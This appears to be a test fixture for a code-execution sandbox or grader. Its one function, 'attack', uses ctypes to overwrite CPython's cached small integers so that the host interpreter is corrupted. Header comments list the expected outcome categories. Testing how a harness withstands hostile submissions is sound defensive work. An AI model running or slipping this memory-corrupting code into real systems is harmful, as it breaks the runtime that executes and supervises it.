#: rows = ["F08", "F29", "H38"]
#: outcome = ["Returned", "Ended", "TimedOut", "Raised", "InvalidReturn", "ReplyTooLarge", "MemoryExceeded"]
#: calls = 2
import ctypes


def attack(x):
    """The small numbers exist once: the kinds of frames, lengths and codes of types are among them."""
    for number in range(3, 60):
        ctypes.c_uint32.from_address(id(number) + 24).value = 31
    return x
